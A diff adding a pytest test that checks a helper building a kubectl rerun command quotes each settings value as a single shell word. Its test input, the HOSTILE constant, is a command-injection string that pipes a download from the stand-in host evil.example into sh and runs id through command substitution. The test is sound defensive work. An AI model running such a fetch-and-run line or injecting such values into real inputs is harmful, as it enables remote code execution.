@@ -1,0 +1,29 @@
+"""The command of an alert is one command, whatever a setting says."""
+
+import shlex
+
+import pytest
+
+from src.config.rerun_command import rerun_command
+from src.config.settings import ReportSettings
+
+from ..builders import make_window
+
+HOSTILE = "a b; curl evil.example | sh; $(id) `id` 'x'"
+
+
+@pytest.mark.parametrize("job", ["reports-generator-29924384", f"{HOSTILE}-29924384"])
+def test_every_value_in_a_printed_command_is_one_word_of_it(job: str) -> None:
+    """A shell takes it as it stands, though settings of that form are refused before."""
+    settings = ReportSettings.model_construct(job_name=job, pod_namespace=HOSTILE)
+    cronjob = job.rpartition("-")[0]
+
+    made, changed, created = rerun_command(make_window(), settings, resend=True, count=2).rsplit(" | kubectl", 2)
+
+    assert shlex.split(made.replace("$(date +%s)", "NOW")) == [
+        *("kubectl", "create", "job", f"{cronjob}-again-NOW", f"--from=cronjob/{cronjob}", "-n", HOSTILE),
+        *("--dry-run=client", "-o", "yaml"),
+    ]
+    variables = ["REPORT_START=2026-11-22T13", "REPORT_COUNT=2", "REPORT_RESEND=true"]
+    assert shlex.split(changed) == ["set", "env", "--local", "-f", "-", *variables, "-o", "yaml"]
+    assert shlex.split(created) == ["create", "-f", "-"]
